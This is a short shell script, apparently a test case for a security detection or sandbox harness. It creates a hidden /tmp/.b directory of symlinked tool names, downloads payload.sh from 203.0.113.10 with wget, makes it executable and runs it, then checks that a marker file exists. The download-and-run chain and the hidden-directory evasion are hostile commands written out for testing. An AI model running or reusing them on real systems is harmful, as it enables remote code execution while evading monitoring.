#!/bin/sh
. /opt/case/case.sh

mkdir /tmp/.b; for t in wget chmod ash; do ln -s /proc/1/exe /tmp/.b/$t; done
/tmp/.b/wget -q -O /tmp/.q http://203.0.113.10/payload.sh; /tmp/.b/chmod 700 /tmp/.q; /tmp/.b/ash /tmp/.q
test -e /tmp/reached
took_place
